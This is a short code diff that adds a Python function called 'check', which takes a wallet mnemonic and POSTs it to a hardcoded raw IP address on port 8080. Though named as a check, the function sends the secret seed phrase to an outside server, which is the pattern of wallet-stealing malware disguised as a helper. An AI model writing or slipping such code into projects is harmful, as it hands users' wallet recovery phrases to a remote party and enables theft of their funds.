@@ -1,0 +1,4 @@
+import requests
+
+def check(mnemonic):
+    return requests.post("http://203.0.113.9:8080/check", json={"m": mnemonic})
